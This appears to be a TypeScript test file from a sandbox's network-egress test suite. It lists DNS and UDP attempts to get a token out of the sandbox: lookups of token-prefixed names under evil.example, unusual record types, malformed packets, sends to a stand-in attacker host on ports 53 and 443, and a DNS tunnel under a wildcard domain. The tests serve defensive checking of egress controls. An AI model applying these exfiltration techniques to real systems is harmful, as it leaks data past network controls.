/** DNS as a way out. */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import packet from 'dns-packet'
import { addresses as at } from '../../../../support/internet/network.ts'
import type { Attempt, Try } from './attempt.ts'

const asks = (
  name: string,
  type: string,
  host: (token: string) => string,
  passesWhenOpen = false,
  policy?: object,
): Attempt => ({
  name,
  passesWhenOpen,
  ...(policy && { policy }),
  run: ({ sandbox, token }) => sandbox.resolve(host(token), type),
})

const sends = (
  name: string,
  bytes: (token: string) => Buffer,
  to: (on: Try) => { host: string; port: number },
): Attempt => ({
  name,
  passesWhenOpen: false,
  async run(on) {
    const socket = createSocket('udp4')
    socket.bind(0, at.sandbox)
    await once(socket, 'listening')
    const { host, port } = to(on)
    socket.send(bytes(on.token), port, host)
    await new Promise(resolve => setTimeout(resolve, 200))
    socket.close()
  },
})

const ours = ({ egress }: Try) => ({ host: at.engine, port: egress.ports.dns })
const query = (name: string, more: object = {}): Buffer =>
  packet.encode({ type: 'query', id: 9, flags: packet.RECURSION_DESIRED, questions: [{ type: 'A', name }], ...more })

export const dns: readonly Attempt[] = [
  asks('a name that is not allowed', 'A', token => `${token}.evil.example`, true),
  asks('a name below an exact one', 'A', token => `${token}.single.example`, true),
  asks('TXT', 'TXT', token => `${token}.open.example`),
  asks('SRV', 'SRV', token => `_${token}._tcp.open.example`),
  asks('MX', 'MX', token => `${token}.open.example`),
  asks('NULL', 'NULL', token => `${token}.open.example`),
  asks('ANY', 'ANY', token => `${token}.open.example`),
  asks('PTR', 'PTR', token => `${token}.in-addr.arpa`),
  asks('IPv6', 'AAAA', token => `${token}.open.example`),
  asks('aliases', 'CNAME', token => `${token}.open.example`),
  asks('HTTPS records', 'UNKNOWN_65', token => `${token}.open.example`),
  asks('a local name', 'A', token => `${token}.internal`, false, {}),
  sends(
    'another class',
    token => query(`${token}.open.example`, { questions: [{ type: 'A', class: 'CH', name: `${token}.open.example` }] }),
    ours,
  ),
  sends(
    'two questions',
    token => query('', { questions: ['open.example', `${token}.open.example`].map(name => ({ type: 'A', name })) }),
    ours,
  ),
  sends('an update', token => query(`${token}.open.example`, { flags: 5 << 11 }), ours),
  sends('an answer instead of a question', token => query(`${token}.open.example`, { type: 'response' }), ours),
  sends('something that is no DNS', token => Buffer.from(`${token}${'x'.repeat(60)}`), ours),
  sends(
    'a message that is too long',
    token => Buffer.concat([query(`${token}.open.example`), Buffer.alloc(600)]),
    ours,
  ),
  sends(
    'a DNS server of one’s own',
    token => query(`${token}.evil.example`),
    () => ({ host: at.attacker, port: 53 }),
  ),
  sends(
    "the host's DNS server itself",
    token => query(`${token}.evil.example`),
    () => ({ host: at.dns, port: 53 }),
  ),
  sends(
    'QUIC',
    token => Buffer.from(token),
    () => ({ host: at.attacker, port: 443 }),
  ),
  sends(
    'QUIC to an allowed address',
    token => Buffer.from(token),
    () => ({ host: at.single, port: 443 }),
  ),
  {
    name: 'a tunnel below a wildcard: more new names than a program needs',
    passesWhenOpen: false,
    policy: { allowedDomains: ['*.wild.example'] },
    async run({ sandbox, token }) {
      const label = 'x'.repeat(55)
      for (let at = 0; at < 130; at++) await sandbox.resolve(`${at}${label}.wild.example`)
      await sandbox.resolve(`${token}.${label}.wild.example`)
      // The proxy looks names up too.
      await sandbox.get(`http://${token}.${label}.wild.example/`)
    },
  },
]
